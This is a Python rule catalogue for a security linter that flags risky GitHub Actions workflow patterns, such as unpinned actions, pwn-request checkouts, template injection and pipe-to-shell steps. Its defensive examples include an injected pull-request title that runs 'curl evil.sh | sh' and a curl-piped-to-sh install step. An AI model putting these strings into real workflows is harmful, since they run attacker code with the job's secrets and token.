"""GHA7nn: GitHub Actions workflow and action rules (semantics: docs/actions.md)."""
from __future__ import annotations

from sechooks.core.catalogue import Option, Rule, reserved_rule
from sechooks.core.finding import Severity

_SHA = "8e5e7e5ab8b370d6c329ec480221332ada57f0ab"
_DOCS = "https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
_PWN = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
_INJECTION = "https://securitylab.github.com/resources/github-actions-untrusted-input/"
_ZIZMOR = "https://docs.zizmor.sh/audits/"

RULES = (
    reserved_rule("GHA", "700", "A GitHub Actions workflow or action file"),
    Rule(
        id="GHA701",
        name="unpinned-action",
        title="A third-party action is used by branch or tag, not by commit sha",
        severity=Severity.HIGH,
        rationale=(
            "A `uses:` reference by branch (`@master`, `@main`) or tag (`@v2`) runs whatever "
            "the action's owner, or whoever takes over the owner's account, pushes next: "
            "branches move by design and tags can be moved or re-created (the tj-actions/"
            "changed-files compromise of March 2025 re-pointed every tag). The action runs "
            "with the job's token and secrets. Only a full 40-character commit sha names "
            "immutable code. A branch is critical, a tag or a short sha high; a "
            "`docker://` image without an @sha256 digest is the same problem (critical "
            "when untagged or :latest). Local actions (`./path`) and reusable workflows of "
            "this repository are not checked; GitHub-owned actions (actions/*, github/*) "
            "are GHA702."
        ),
        fix="Pin to the full commit sha and keep the version in a comment: uses: owner/action@<40-hex sha> # v4.1.2 (Dependabot and Renovate keep both up to date).",
        bad="steps:\n  - uses: aquasecurity/trivy-action@master",
        good=f"steps:\n  - uses: aquasecurity/trivy-action@{_SHA} # 0.28.0",
        peers=("unpinned-uses",),
        references=("CWE-829", "CWE-1357", f"{_DOCS}#using-third-party-actions", f"{_ZIZMOR}#unpinned-uses"),
        since="0.2.0",
    ),
    Rule(
        id="GHA702",
        name="unpinned-github-action",
        title="A GitHub-owned action is used by tag or branch (with pin = \"all\")",
        severity=Severity.LOW,
        rationale=(
            "Actions published by GitHub itself (actions/*, github/*) are maintained by the "
            "platform owner, so a tag is a smaller risk than a third-party tag; but it is "
            "still mutable, and pinning everything makes a build reproducible. Reported only "
            "when `[tool.sechooks.gha] pin = \"all\"` (the default, \"third-party\", leaves "
            "GitHub-owned tags alone, the policy zizmor had by default before 1.20; \"all\" "
            "matches zizmor's current default). Low for a tag, medium for a branch."
        ),
        fix="Pin to the full commit sha with the tag as a comment: uses: actions/checkout@<40-hex sha> # v4.2.2.",
        bad="steps:\n  - uses: actions/checkout@v4",
        good=f"steps:\n  - uses: actions/checkout@{_SHA} # v4.2.2",
        peers=("unpinned-uses",),
        references=("CWE-1357", f"{_DOCS}#using-third-party-actions", f"{_ZIZMOR}#unpinned-uses"),
        since="0.2.0",
    ),
    Rule(
        id="GHA703",
        name="untrusted-checkout",
        title="A privileged workflow checks out the pull request's code",
        severity=Severity.CRITICAL,
        rationale=(
            "`pull_request_target` and `workflow_run` run in the context of the base "
            "repository: with its secrets and a token that can write. Checking out the "
            "pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`, "
            "`head.ref`, `github.head_ref`, `refs/pull/N/merge`, `workflow_run.head_sha`, or "
            "`gh pr checkout` in a script) brings a stranger's code into that context, "
            "where a build script, a test or a package install hook runs it: the "
            "\"pwn request\". The finding is on the line that picks the untrusted ref."
        ),
        fix="Use the pull_request trigger for anything that builds or runs the PR's code; keep pull_request_target for labelling/commenting and never check out the head there (or split into pull_request + workflow_run with artifacts treated as data).",
        bad=(
            "on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
            "      - run: npm test"
        ),
        good="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test",
        peers=("dangerous-triggers", "untrusted_checkout_exec"),
        references=("CWE-829", "CWE-913", _PWN, f"{_ZIZMOR}#dangerous-triggers"),
        since="0.2.0",
    ),
    Rule(
        id="GHA704",
        name="dangerous-trigger",
        title="A workflow runs on pull_request_target or workflow_run",
        severity=Severity.LOW,
        rationale=(
            "These triggers run with the base repository's secrets and a write token on "
            "events that anyone who can open a pull request controls. Used only to label or "
            "comment they are safe; the danger is any later step that runs the pull "
            "request's code or data (GHA703, GHA707). Reported on the trigger when no "
            "untrusted checkout was found (that case is GHA703), as a reminder to review "
            "the workflow with that in mind."
        ),
        fix="Prefer pull_request; if pull_request_target is needed, give it minimal permissions and never run the PR's code (suppress with a reason once reviewed).",
        bad="on: pull_request_target\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5",
        good="on: pull_request\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok",
        peers=("dangerous-triggers",),
        references=("CWE-913", _PWN, f"{_ZIZMOR}#dangerous-triggers"),
        since="0.2.0",
    ),
    Rule(
        id="GHA705",
        name="excessive-permissions",
        title="The workflow token gets write-all, or write scopes on a privileged trigger",
        severity=Severity.HIGH,
        rationale=(
            "`permissions: write-all` gives every step (and every action it uses) a token "
            "that can push code, publish releases and change settings. Write scopes on a "
            "workflow triggered by pull_request_target, issue_comment or workflow_run are "
            "reachable by outsiders' events: one injection or one compromised action "
            "becomes a write to the repository. write-all is high; write scopes on those "
            "triggers medium."
        ),
        fix="Grant the least needed: top-level permissions: contents: read, and per-job write scopes only where a job needs them.",
        bad="on: pull_request_target\npermissions: write-all\njobs: {}",
        good="on: pull_request_target\npermissions:\n  contents: read\njobs: {}",
        peers=("excessive-permissions", "CKV2_GHA_1"),
        references=("CWE-250", "CWE-272", f"{_DOCS}#using-secrets", "https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"),
        since="0.2.0",
    ),
    Rule(
        id="GHA706",
        name="permissions-missing",
        title="A workflow has no top-level permissions block (opt-in)",
        severity=Severity.LOW,
        default=False,
        rationale=(
            "Without `permissions:` the token gets the repository's or organisation's "
            "default, which is read/write for repositories created before February 2023 "
            "and for many organisations. The file then does not say what it needs. Opt-in "
            "because the risk depends on a setting outside the file; jobs that all declare "
            "their own permissions, and reusable workflows (which get the caller's), are "
            "not reported."
        ),
        fix="Add top-level permissions: contents: read (or permissions: {}) and widen per job.",
        bad="on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make",
        good="on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make",
        peers=("excessive-permissions", "default_permissions_on_risky_events"),
        references=("CWE-250", "https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"),
        since="0.2.0",
    ),
    Rule(
        id="GHA707",
        name="template-injection",
        title="An attacker-controlled value is expanded into a script",
        severity=Severity.HIGH,
        rationale=(
            "`${{ }}` is expanded into the text of a `run:` script (or an "
            "actions/github-script `script:`) before the shell or node parses it. An issue "
            "or pull request title, a comment, a branch name, a commit message or author "
            "is chosen by whoever opens it: a title like `a\"; curl evil.sh | sh; \"` runs "
            "as code with the job's token and secrets. Safe values are not reported: "
            "github.sha, run ids and numbers, numeric ids, secrets.*, literal matrix "
            "values, booleans from contains()/startsWith()/comparisons. Step outputs, job "
            "outputs, env values and matrix entries derived from an unsafe value are "
            "unsafe. Critical on triggers outsiders fire with secrets (pull_request_target, "
            "issues, issue_comment, discussion, workflow_run), high elsewhere. The finding "
            "is on the expression's line inside a multi-line script."
        ),
        fix="Pass the value through env: (env: TITLE: ${{ github.event.pull_request.title }}) and use \"$TITLE\" in the script, quoted.",
        bad="steps:\n  - run: |\n      echo \"${{ github.event.pull_request.title }}\"",
        good="steps:\n  - env:\n      TITLE: ${{ github.event.pull_request.title }}\n    run: |\n      echo \"$TITLE\"",
        peers=("template-injection", "CKV_GHA_2", "injection"),
        references=("CWE-78", "CWE-94", _INJECTION, f"{_DOCS}#understanding-the-risk-of-script-injections"),
        since="0.2.0",
    ),
    Rule(
        id="GHA708",
        name="self-hosted-runner",
        title="A self-hosted runner runs jobs that public pull requests trigger",
        severity=Severity.HIGH,
        rationale=(
            "A pull request from a fork runs its own workflow code on the runner. On a "
            "self-hosted machine that code persists between jobs, can read other jobs' "
            "files and credentials and reach the internal network. GitHub advises never "
            "to use self-hosted runners with public repositories. Reported for "
            "`runs-on` naming self-hosted (directly, in a list, in `labels:` or through a "
            "literal matrix value) on pull_request, pull_request_target and pull request "
            "review triggers."
        ),
        fix="Run pull request jobs on GitHub-hosted runners, or use ephemeral, isolated self-hosted runners and require approval for outside contributors.",
        bad="on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, linux]",
        good="on: push\njobs:\n  test:\n    runs-on: [self-hosted, linux]",
        peers=("self-hosted-runner", "pr_runs_on_self_hosted"),
        references=("CWE-653", "https://docs.github.com/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security"),
        since="0.2.0",
    ),
    Rule(
        id="GHA709",
        name="secrets-overshared",
        title="All secrets go to an outside workflow or into one value",
        severity=Severity.HIGH,
        rationale=(
            "`secrets: inherit` hands every secret of the repository and organisation to a "
            "reusable workflow of another repository, which its owner can change at any "
            "time. `toJSON(secrets)` puts every secret into one value that a step can "
            "print, upload or forward, and defeats log masking for secrets it splits. "
            "Reusable workflows of this repository (`./.github/workflows/…`) may inherit."
        ),
        fix="Pass only the named secrets the workflow needs (secrets: token: ${{ secrets.TOKEN }}); reference secrets one by one.",
        bad="jobs:\n  call:\n    uses: other-org/pipelines/.github/workflows/build.yml@main\n    secrets: inherit",
        good="jobs:\n  call:\n    uses: ./.github/workflows/build.yml\n    secrets: inherit",
        peers=("secrets-inherit", "overprovisioned-secrets", "job_all_secrets"),
        references=("CWE-200", "https://docs.github.com/actions/sharing-automations/reusing-workflows#passing-secrets-to-nested-workflows"),
        since="0.2.0",
    ),
    Rule(
        id="GHA710",
        supersedes=("SEC",),  # the same literal secret, judged with its context: one finding
        name="hardcoded-credentials",
        title="A literal credential is written in the workflow",
        severity=Severity.HIGH,
        rationale=(
            "A `container:`/`services:` `credentials.password` written as a literal, or an "
            "`env:`/`with:` value that the secrets classifier recognises as a secret "
            "(a provider token, or a random-looking value under a password/token/key "
            "name), is readable by everyone who can read the repository and stays in its "
            "history. Expressions (`${{ secrets.X }}`) are the fix and never reported."
        ),
        fix="Store the value as an encrypted secret and reference it: password: ${{ secrets.REGISTRY_PASSWORD }}; rotate the leaked one.",
        bad="jobs:\n  t:\n    container:\n      image: ghcr.io/o/i:1\n      credentials:\n        username: bot\n        password: S3cr3t-Pa55w0rd!",
        good="jobs:\n  t:\n    container:\n      image: ghcr.io/o/i:1\n      credentials:\n        username: bot\n        password: ${{ secrets.GHCR_PASSWORD }}",
        peers=("hardcoded-container-credentials",),
        references=("CWE-798", "https://docs.github.com/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"),
        since="0.2.0",
    ),
    Rule(
        id="GHA711",
        name="insecure-commands",
        title="ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path",
        severity=Severity.HIGH,
        rationale=(
            "The deprecated `::set-env::` and `::add-path::` workflow commands let anything "
            "a step prints set environment variables (LD_PRELOAD, NODE_OPTIONS) and PATH "
            "for later steps: a log line from an attacker-controlled value becomes code "
            "execution (CVE-2020-15228). GitHub disabled them; this variable turns them "
            "back on."
        ),
        fix="Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH instead.",
        bad="env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true",
        good="steps:\n  - run: echo \"$HOME/bin\" >> \"$GITHUB_PATH\"",
        peers=("insecure-commands", "CKV_GHA_1"),
        references=("CWE-94", "CVE-2020-15228", "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"),
        since="0.2.0",
    ),
    Rule(
        id="GHA712",
        name="pipe-to-shell",
        title="A run: script pipes a download into a shell",
        severity=Severity.MEDIUM,
        rationale=(
            "`curl … | sh` runs whatever the server (or anyone between) returns, with the "
            "job's token and secrets, and leaves no record of what ran. The same judgement "
            "as the Dockerfile hook's DKR212 (the shared shell reader)."
        ),
        fix="Download to a file, verify its checksum or signature, then run it; or use a pinned action or package.",
        bad="steps:\n  - run: curl -fsSL https://example.com/install.sh | sh",
        good="steps:\n  - run: |\n      curl -fsSLo install.sh https://example.com/install.sh\n      echo \"$SHA256  install.sh\" | sha256sum -c\n      sh install.sh",
        peers=("unverified_script_exec",),
        references=("CWE-494", "CWE-829"),
        since="0.2.0",
    ),
    Rule(
        id="GHA713",
        name="credential-persistence",
        title="A checkout keeps its token in .git/config and the workspace is uploaded",
        severity=Severity.MEDIUM,
        rationale=(
            "actions/checkout writes the job's token into .git/config unless "
            "`persist-credentials: false`. A later actions/upload-artifact of the whole "
            "workspace (`.`, `${{ github.workspace }}`, `**`) can publish that token in an "
            "artifact anyone with read access downloads (\"ArtiPACKED\"). upload-artifact "
            "4.4 and later skip hidden files by default; `include-hidden-files: true` "
            "makes it high. The finding is on the checkout step."
        ),
        fix="Set persist-credentials: false on the checkout (and upload only the build output directory).",
        bad=(
            "steps:\n  - uses: actions/checkout@v4\n  - run: make\n"
            "  - uses: actions/upload-artifact@v4\n    with:\n      path: .\n      include-hidden-files: true"
        ),
        good=(
            "steps:\n  - uses: actions/checkout@v4\n    with:\n      persist-credentials: false\n  - run: make\n"
            "  - uses: actions/upload-artifact@v4\n    with:\n      path: dist/"
        ),
        peers=("artipacked",),
        references=("CWE-522", "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/", f"{_ZIZMOR}#artipacked"),
        since="0.2.0",
    ),
)

OPTIONS = {
    "pin": Option(
        default="third-party",
        help=(
            "Which actions must be pinned to a commit sha: \"third-party\" (GHA701 only; "
            "GitHub-owned actions/* and github/* may use tags) or \"all\" (GHA702 also "
            "reports GitHub-owned actions by tag or branch)."
        ),
        choices=("third-party", "all"),
    ),
}
